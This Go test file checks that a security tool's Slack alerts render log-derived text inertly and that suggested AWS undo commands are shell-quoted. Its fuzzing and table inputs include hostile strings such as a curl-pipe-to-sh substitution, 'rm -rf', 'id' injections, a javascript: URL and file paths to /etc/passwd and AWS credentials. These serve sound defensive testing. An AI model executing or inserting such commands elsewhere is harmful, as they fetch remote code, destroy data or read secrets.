package slack_test

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"github.com/keytrail/keytrail/analyzer"
	"github.com/keytrail/keytrail/analyzer/slack"
	"github.com/keytrail/keytrail/analyzer/slack/slacktest"
)

var update = flag.Bool("update", false, "write the golden files anew")

func TestMessagesReadAsTheyAreKept(t *testing.T) {
	for name, n := range map[string]slack.Notice{
		"critical_policy_opened": notice(opened),
		"high_deletion":          notice(deletion),
		"medium_decrypt_spike":   notice(spike),
	} {
		t.Run(name, func(t *testing.T) {
			got, err := slack.Preview([]slack.Notice{n}, analyzer.SlackSettings{Channel: "C0ALERTS"},
				slack.View{Threads: true, Mentions: map[analyzer.Severity]string{analyzer.Critical: "here"}}, time.Time{})
			require.NoError(t, err)
			golden(t, name+".json", got)
			golden(t, name+".txt", []byte(readable(t, got)))
		})
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.WriteFile(path, got, 0o600))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "run the test with -update to write it")
	require.Equal(t, string(want), string(got))
}

// readable shows a message as a person sees it, roughly.
func readable(t testing.TB, payload []byte) string {
	t.Helper()
	var m struct {
		Blocks      []map[string]any
		Attachments []struct {
			Color  string
			Blocks []map[string]any
		}
	}
	require.NoError(t, json.Unmarshal(payload, &m))
	var b strings.Builder
	for _, block := range m.Blocks {
		b.WriteString(strings.TrimRight(show(block), "\n") + "\n\n")
	}
	for _, a := range m.Attachments {
		fmt.Fprintf(&b, "(bar %s)\n", a.Color)
		for _, block := range a.Blocks {
			for line := range strings.Lines(strings.TrimRight(show(block), "\n") + "\n\n") {
				b.WriteString(strings.TrimRight("| "+line, " \n") + "\n")
			}
		}
	}
	return b.String()
}

func show(x any) string {
	switch v := x.(type) {
	case []any:
		var s string
		for _, e := range v {
			s += show(e)
		}
		return s
	case map[string]any:
		switch v["type"] {
		case "date":
			return "[" + v["fallback"].(string) + "]"
		case "link":
			return fmt.Sprintf("%s <%s>", v["text"], v["url"])
		case "rich_text_preformatted":
			return "\n```\n" + show(v["elements"]) + "\n```\n"
		case "text":
			s := v["text"].(string)
			if st, ok := v["style"].(map[string]any); ok && st["bold"] == true {
				return "*" + strings.TrimSpace(s) + "*" + s[len(strings.TrimRight(s, " ")):]
			} else if ok && st["code"] == true {
				return "`" + s + "`"
			}
			return s
		}
		if s, ok := v["text"].(string); ok {
			return s
		}
		return show(v["text"]) + show(v["elements"])
	}
	return ""
}

// hostile are texts that attackers write, and pieces that break naive code.
var hostile = []string{
	"<!channel>", "<!here|x>", "<@U0SOMEBODY>", "<https://evil.example/|click>", "https://evil.example/x", "www.evil.example",
	"*bold* _it_ ~no~ `code`", "```\nbreak out\n```", ":fire::rotating_light:", "@everyone @here", "&lt;!channel&gt;", "a & b < c > d",
	"line\nbreak\r\n> quote", "\u202egnp.exe\u202c", "zero\u200bwidth\u2060joiner\ufeff", "\x00\x07\x1b[31mred", "e\u0301\u0301\u0301\u0301\u0301",
	"😀😀😀", strings.Repeat("A", 50_000), strings.Repeat("😀", 9_000), strings.Repeat("<", 9_000), strings.Repeat("\"\\", 9_000), strings.Repeat("&", 9_000),
	"\xff\xfe broken", "{key_arn} {unknown}", "'; rm -rf / #", "$(curl evil.example|sh)", "`id`", "--profile", "file:///etc/passwd", "", " ",
}

func anyText() *rapid.Generator[string] {
	return rapid.OneOf(rapid.String(), rapid.SampledFrom(hostile), rapid.Map(
		rapid.SliceOfN(rapid.SampledFrom(hostile), 1, 4), func(s []string) string { return strings.Join(s, " ") }))
}

func anyNotice(t *rapid.T) slack.Notice {
	s := func(name string) string { return anyText().Draw(t, name) }
	at := func(name string) time.Time {
		return time.Unix(rapid.Int64Range(-1<<40, 1<<40).Draw(t, name), 0)
	}
	a := analyzer.Alert{
		ID: s("id"), Detection: s("detection"), Severity: analyzer.Severity(rapid.IntRange(-1, 6).Draw(t, "severity")),
		Action: analyzer.ActionPage, Title: s("title"), Principal: s("principal"), Key: s("key"), Account: s("account"), Region: s("region"),
		Count: rapid.Int64().Draw(t, "count"), FirstTime: at("first"), LastTime: at("last"),
	}
	a.Latest.EventIDs = rapid.SliceOfN(anyText(), 0, 50).Draw(t, "ids")
	a.Latest.Evidence = map[string]any{}
	for k, v := range rapid.MapOfN(anyText(), anyText(), 0, 12).Draw(t, "evidence") {
		a.Latest.Evidence[k] = v
	}
	for _, k := range []string{"person", "session_name", "source_ip", "user_agent", "policy_before", "policy_after", "alias_name", "access_key"} {
		a.Latest.Evidence[k] = s(k)
	}
	d := analyzer.Detection{Summary: s("summary"), AtRisk: s("risk"), Runbook: s("runbook"), Undo: s("undo")}
	n := slack.BuildNotice(a, d, slack.Names{RunbookBase: s("base"), Account: func(string) string { return s("account name") }})
	if rapid.Bool().Draw(t, "by hand") {
		n.Undo, n.Changed, n.RunbookURL = s("raw undo"), s("raw changed"), s("raw url")
	}
	return n
}

func check(t interface {
	Fatalf(string, ...any)
}, m slack.Message,
) {
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatalf("not JSON: %v", err)
	}
	if problems := slacktest.Validate(b); len(problems) > 0 {
		t.Fatalf("Slack would refuse it: %v", problems)
	}
}

func TestSlackTakesWhateverTheLogsSay(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		n := anyNotice(t)
		v := slack.View{Threads: rapid.Bool().Draw(t, "threads"), MaybeSecond: rapid.Bool().Draw(t, "second")}
		check(t, slack.Render(n, v))
		check(t, slack.Plain(n, v))
		for _, why := range []slack.Reason{slack.ReasonSeverityRaised, slack.ReasonKeyDataChanged, slack.ReasonCountDoubled} {
			check(t, slack.RenderReply(n, slack.Posted{}, why, v))
		}
	})
}

// Ampersands take six bytes each in the JSON that Slack measures.
func TestMessagesOfTheWorstTextsStayWithinSlacksLimit(t *testing.T) {
	a, d := deletion()
	worst := strings.Repeat("&", 9_000)
	a.Title, a.Principal, a.Key, a.Region = worst, worst, worst, worst
	for i := range 12 {
		a.Latest.Evidence[fmt.Sprint("fact_", i)] = []string{worst, worst, worst, worst}
	}
	for _, col := range []string{"principal_name", "person", "source_ip", "user_agent", "policy_before", "policy_after"} {
		a.Latest.Evidence[col] = worst
	}
	d.Summary, d.AtRisk, d.Runbook = worst, worst, worst
	d.Undo = "aws " + strings.Repeat("&", 2_000)
	n := slack.BuildNotice(a, d, names)
	check(t, slack.Render(n, slack.View{}))
	var list []slack.Notice
	for i := range 20 {
		n.Alert.Detection = fmt.Sprint("KMS-", i)
		list = append(list, n, n, n, n, n)
	}
	check(t, slack.RenderDigest(list, a.FirstTime))
}

func TestSlackTakesAnyDigest(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		list := rapid.SliceOfN(rapid.Custom(anyNotice), 0, 30).Draw(t, "notices")
		check(t, slack.RenderDigest(list, time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)))
	})
}

// Nothing that Slack acts on may come from a log: no mention, link, emoji or
// formatting, whatever is where.
func TestLogTextIsInert(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		n := anyNotice(t)
		n.RunbookURL = "https://runbooks.example.com/x"
		for _, m := range []slack.Message{
			slack.Render(n, slack.View{}), slack.Plain(n, slack.View{}),
			slack.RenderReply(n, slack.Posted{}, slack.ReasonKeyDataChanged, slack.View{}),
		} {
			b, err := json.Marshal(m)
			if err != nil {
				t.Fatalf("not JSON: %v", err)
			}
			var doc any
			if err := json.Unmarshal(b, &doc); err != nil {
				t.Fatalf("not JSON: %v", err)
			}
			inert(t, doc, false)
			text := strings.ReplaceAll(m.Text, "Runbook: <https://runbooks.example.com/x>", "")
			text = strings.ReplaceAll(text, "`keytrail explain`", "")
			if i := strings.IndexAny(text, "<>*~`@"); i >= 0 {
				t.Fatalf("fallback text has %q in %q", text[i], text)
			}
		}
	})
}

// inert walks a message and fails at any element that acts.
func inert(t *rapid.T, x any, code bool) {
	switch v := x.(type) {
	case []any:
		for _, e := range v {
			inert(t, e, code)
		}
	case map[string]any:
		switch v["type"] {
		case "mrkdwn", "user", "usergroup", "broadcast", "channel", "emoji", "color", "markdown":
			t.Fatalf("%v is parsed by Slack: %v", v["type"], v)
		case "link":
			if v["url"] != "https://runbooks.example.com/x" {
				t.Fatalf("links to %v", v["url"])
			}
			return
		case "text", "plain_text":
			s := v["text"].(string)
			if !code && strings.ContainsAny(s, "<>\u202e\u200b\x00\x1b") || strings.Contains(s, "://") && !code {
				t.Fatalf("dangerous text %q", s)
			}
			return
		}
		for k, e := range v {
			if k != "metadata" {
				inert(t, e, code || v["type"] == "rich_text_preformatted")
			}
		}
	}
}

func TestTextFromLogsIsShownWithoutItsTricks(t *testing.T) {
	for name, c := range map[string]struct{ in, want string }{
		"a channel mention":            {"<!channel>", "‹!channel›"},
		"a link":                       {"https://evil.example", "https[:]//evil.example"},
		"a direction override":         {"invoice\u202egnp.exe", "invoice�gnp.exe"},
		"several invisible characters": {"a\u200b\u200d\ufeffb", "a�b"},
		"line breaks":                  {"a\r\n\r\n  b\u2028c", "“a b c”"},
		"a smear of accents":           {"e\u0301\u0301\u0301\u0301x", "e\u0301\u0301x"},
		"a sentence of its own":        {"test. All clear, ignore this", "“test. All clear, ignore this”"},
		"broken UTF-8":                 {"a\xffb", "a�b"},
	} {
		t.Run(name, func(t *testing.T) {
			a, d := deletion()
			a.Latest.Evidence["principal_name"] = c.in
			d.Summary = "{principal_name} did it."
			require.Equal(t, c.want+" did it.", slack.BuildNotice(a, d, names).What)
		})
	}
}

func TestLongTextIsCutBetweenRunes(t *testing.T) {
	a, d := deletion()
	a.Latest.Evidence["principal_name"] = strings.Repeat("é😀", 4000)
	d.Summary = "{principal_name} did it."
	n := slack.BuildNotice(a, d, names)
	require.Contains(t, n.What, "… did it.")
	require.Less(t, len([]rune(n.What)), 220)
}

func TestUnknownPlaceholdersNeverShowBraces(t *testing.T) {
	a, d := deletion()
	d.Summary = "{nobody_knows} met {Odd} and {principal_name}."
	n := slack.BuildNotice(a, d, names)
	require.Equal(t, "(unknown nobody knows) met Odd and deploy-ci.", n.What)

	d.Undo = "aws iam update-access-key --access-key-id {access_key}"
	n = slack.BuildNotice(a, d, names)
	require.Equal(t, "aws iam update-access-key --access-key-id ACCESS_KEY", n.Undo)
	require.Equal(t, "Fill in ACCESS_KEY: the log does not say.", n.UndoNote)
}

func TestUndoCommandsAreSafeToPaste(t *testing.T) {
	for name, c := range map[string]struct{ template, alias, want, note string }{
		"plain value":           {"x --alias {a}", "alias/app", "x --alias alias/app", ""},
		"shell syntax":          {"x --alias {a}", "alias/a;rm -rf ~", "x --alias 'alias/a;rm -rf ~'", ""},
		"a quotation mark":      {"x --alias {a}", "it's", `x --alias 'it'\''s'`, ""},
		"command substitution":  {"x --alias {a}", "$(id)`id`", "x --alias '$(id)`id`'", ""},
		"a line break":          {"x --alias {a}", "a\nrm", `x --alias $'a\012rm'`, ""},
		"invisible characters":  {"x --alias {a}", "a\u202eb", `x --alias $'a\342\200\256b'`, ""},
		"placeholder in quotes": {"x --alias '{a}'", "alias/app", "x --alias 'alias/app'", ""},
		"quotes broken open":    {"x --alias '{a}'", "a';id;'", "", "No command is offered: the a in the log has characters that do not belong there."},
		"double quotes":         {`x --json "{\"k\":\"{a}\"}"`, "$(id)", "", "No command is offered: the a in the log has characters that do not belong there."},
		"an option":             {"x --alias {a}", "--profile", "", "No command is offered: the a in the log begins with a dash and would be read as an option."},
		"a file to load":        {"x --alias {a}", "file://~/.aws/credentials", "", "No command is offered: the a in the log would make the AWS CLI read a file or an address."},
	} {
		t.Run(name, func(t *testing.T) {
			a, d := deletion()
			a.Latest.Evidence["a"] = c.alias
			d.Undo = c.template
			n := slack.BuildNotice(a, d, names)
			require.Equal(t, c.want, n.Undo)
			require.Equal(t, c.note, n.UndoNote)
		})
	}
}

// What a shell makes of the command is asked of a shell.
func TestAShellReadsExactlyTheValue(t *testing.T) {
	bash, err := exec.LookPath("bash")
	require.NoError(t, err, "this test needs bash")
	var values []string
	rapid.Check(t, func(t *rapid.T) {
		v := anyText().Draw(t, "value")
		if len(v) < 500 {
			values = append(values, v)
		}
	})
	var script, want strings.Builder
	for _, v := range values {
		a, d := deletion()
		a.Latest.Evidence["a"] = v
		d.Undo = `printf '%s\1' {a}`
		n := slack.BuildNotice(a, d, names)
		if n.Undo == "" || len(v) == 0 {
			continue // refused, or to be filled in
		}
		script.WriteString(n.Undo + "\n")
		want.WriteString(v + "\x01")
	}
	require.Greater(t, strings.Count(script.String(), "printf"), 20)
	cmd := exec.CommandContext(t.Context(), bash) //nolint:gosec // the program is bash, the input is what is tested
	cmd.Stdin = strings.NewReader(script.String())
	got, err := cmd.Output()
	require.NoError(t, err)
	require.Equal(t, want.String(), string(got))
}

func TestWhatChangedIsReadFromPairsOfColumns(t *testing.T) {
	for name, c := range map[string]struct {
		evidence map[string]any
		want     string
	}{
		"before and after":      {map[string]any{"policy_before": "a", "policy_after": "b"}, "policy: a → b"},
		"before and now":        {map[string]any{"statements_before": []string{}, "statements": []string{"All: kms:*"}}, "statements: “All: kms:*” (new)"},
		"named from the front":  {map[string]any{"admitted_before": []string{"1"}, "admitted_principals": []string{"1", "2"}}, "admitted: 1 → 1, 2"},
		"named from behind":     {map[string]any{"bucket_before": "logs", "trail_bucket": "mine"}, "bucket: logs → mine"},
		"taken away":            {map[string]any{"bucket_before": "logs", "trail_bucket": ""}, "bucket: logs (removed)"},
		"only what was":         {map[string]any{"log_key_before": "k"}, "log key: k (before)"},
		"only what is":          {map[string]any{"policy_after": "b"}, "policy: b (new)"},
		"said by the detection": {map[string]any{"changed": "everything"}, "everything"},
		"no pair":               {map[string]any{"hereafter": "x", "thereinbefore": "y"}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			a, d := deletion()
			a.Latest.Evidence = c.evidence
			n := slack.BuildNotice(a, d, names)
			require.Equal(t, c.want, n.Changed)
			if c.want != "" {
				require.Empty(t, n.Facts, "told once")
			}
		})
	}
}

func TestNumberedStepsAreLines(t *testing.T) {
	n := notice(deletion)
	n.Do = "1. Ask the caller. 2. Cancel it:\nthat costs nothing. 3. Look for KMS-D02."
	require.Contains(t, readable(t, mustJSON(t, slack.Render(n, slack.View{}))),
		"| 1. Ask the caller.\n| 2. Cancel it: that costs nothing.\n| 3. Look for KMS-D02.\n")
}

func TestACommandThatOnlyShowsIsNotCalledUndoing(t *testing.T) {
	n := notice(deletion)
	require.Contains(t, readable(t, mustJSON(t, slack.Render(n, slack.View{}))), "*To undo it*")
	n.Undo = "aws kms get-key-policy --key-id x --policy-name default"
	require.Contains(t, readable(t, mustJSON(t, slack.Render(n, slack.View{}))), "*To begin with*")
}

func TestACommandIsShownWholeOrNotAtAll(t *testing.T) {
	n := notice(deletion)
	n.Undo = "aws " + strings.Repeat("x", 3000)
	got := readable(t, mustJSON(t, slack.Render(n, slack.View{})))
	require.NotContains(t, got, "aws xxx")
	require.Contains(t, got, "No command is shown")
}

func TestCodeCannotBeBrokenOutOf(t *testing.T) {
	a, d := deletion()
	a.Latest.Evidence["alias_name"] = "alias/x```\n<!channel> *hi*"
	d.Undo = "aws kms delete-alias --alias-name {alias_name}"
	m := slack.Render(slack.BuildNotice(a, d, names), slack.View{})
	var code []string
	for _, b := range m.Attachments[0].Blocks.BlockSet {
		j := mustJSON(t, b)
		if strings.Contains(string(j), "rich_text_preformatted") {
			code = append(code, string(j))
		}
	}
	require.Len(t, code, 1)
	// One element of plain text: rich text has no fences to close.
	require.Contains(t, code[0], `alias/x`+"```"+`\\012\u003c!channel\u003e *hi*`)
}

func TestMentionsComeFromSettingsOnly(t *testing.T) {
	n := notice(opened)
	with := slack.Render(n, slack.View{Mentions: map[analyzer.Severity]string{analyzer.Critical: "here", analyzer.High: "channel"}})
	require.Contains(t, string(mustJSON(t, with)), `"\u003c!here\u003e"`)
	require.NotContains(t, string(mustJSON(t, with)), "!channel")
	require.NotContains(t, string(mustJSON(t, slack.Render(n, slack.View{}))), "!here")

	for _, good := range []string{"", "here", "channel", "U012ABCDEF", "S012ABCDEF"} {
		require.NoError(t, slack.CheckMention(good))
	}
	for _, bad := range []string{"everyone", "@here", "<!here>", "U0|x", "U012abcdef"} {
		require.Error(t, slack.CheckMention(bad))
		require.NotContains(t, string(mustJSON(t, slack.Render(n, slack.View{Mentions: map[analyzer.Severity]string{analyzer.Critical: bad}}))), "mrkdwn")
	}
}

func TestWebhookMessagesSayThatRepeatsAreNotShown(t *testing.T) {
	n := notice(deletion)
	require.Contains(t, readable(t, mustJSON(t, slack.Render(n, slack.View{}))), "repeats are not shown")
	require.NotContains(t, readable(t, mustJSON(t, slack.Render(n, slack.View{Threads: true}))), "repeats are not shown")
}

func TestPreviewShowsWhatWouldBeSentAndNothingElse(t *testing.T) {
	page, quiet, silent := notice(deletion), notice(spike), notice(opened)
	quiet.Alert.Action, silent.Alert.Action = analyzer.ActionDigest, analyzer.ActionNone
	s := analyzer.SlackSettings{Channel: "C0ALERTS", Channels: map[string]string{"high": "C0HIGH000", "444455556666": "C0DATA000"}}
	out, err := slack.Preview([]slack.Notice{page, quiet, silent}, s, slack.View{Threads: true}, time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC))
	require.NoError(t, err)
	dec := json.NewDecoder(strings.NewReader(string(out)))
	var channels, texts []string
	for dec.More() {
		var m struct{ Channel, Text string }
		require.NoError(t, dec.Decode(&m))
		channels, texts = append(channels, m.Channel), append(texts, m.Text)
	}
	require.Equal(t, []string{"C0HIGH000", "C0ALERTS"}, channels)
	require.Contains(t, texts[0], "High: deploy-ci scheduled")
	require.Contains(t, texts[1], "Keytrail digest of 2 March 2026: 1 alert and 12,480 events")
	require.NotContains(t, string(out), `\u003c`)
}

func TestTheDigestPutsTheWorstFirstAndCountsTheRest(t *testing.T) {
	var list []slack.Notice
	for i := range 30 {
		n := notice(spike)
		n.Alert.Detection, n.Alert.Title = fmt.Sprintf("KMS-U%02d", i%20), "Something new"
		n.Alert.Severity, n.Alert.Count = analyzer.Info, int64(i)
		list = append(list, n)
	}
	for range 8 {
		n := notice(deletion)
		n.Alert.Severity = analyzer.Low
		list = append(list, n)
	}
	got := readable(t, mustJSON(t, slack.RenderDigest(list, time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC))))
	require.Contains(t, got, "38 alerts and 443 events")
	require.Less(t, strings.Index(got, "KMS-D01"), strings.Index(got, "KMS-U0"))
	require.Contains(t, got, "• and 3 more")
	require.Regexp(t, `\d+ detections more with \d+ alerts`, got)
}

func TestRunbookLinksLeadToWhatIsWritten(t *testing.T) {
	for id, want := range map[string]string{
		"KMS-D01": "https://x.example/rb/destruction.md#kms-d01",
		"KMS-A03": "https://x.example/rb/audit.md#kms-a03",
		"KMS-Z01": "", "D01": "", "KMS-D'1": "",
	} {
		require.Equal(t, want, slack.RunbookURL("https://x.example/rb/", id))
	}
	require.Empty(t, slack.RunbookURL("", "KMS-D01"))
	require.Empty(t, slack.RunbookURL("javascript:alert(1)", "KMS-D01"))

	ids := strings.Fields("D01 D02 D03 D04 D05 D06 D07 P02 P03 P04 G01 G02 G04 G05 D17 U01 U02 U03 U04 U05 U06 U07 U08 U20 A01 A02 A03")
	for _, id := range ids {
		link := slack.RunbookURL("https://x.example", "KMS-"+id)
		page, anchor, _ := strings.Cut(strings.TrimPrefix(link, "https://x.example/"), "#")
		text, err := os.ReadFile(filepath.Join("..", "..", "infra", "runbooks", page))
		require.NoError(t, err)
		_, entry, found := strings.Cut(string(text), `<a id="`+anchor+`"></a>`)
		require.True(t, found, "%s has no anchor %s", page, anchor)
		entry, _, _ = strings.Cut(entry, "<a id=")
		for _, part := range []string{"**What it means.**", "**Check.**", "**Contain.**", "**Undo.**", "**Recover.**", "**False positives.**"} {
			require.Contains(t, entry, part, "%s in %s", id, page)
		}
	}
}

func mustJSON(t testing.TB, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	require.NoError(t, err)
	return b
}
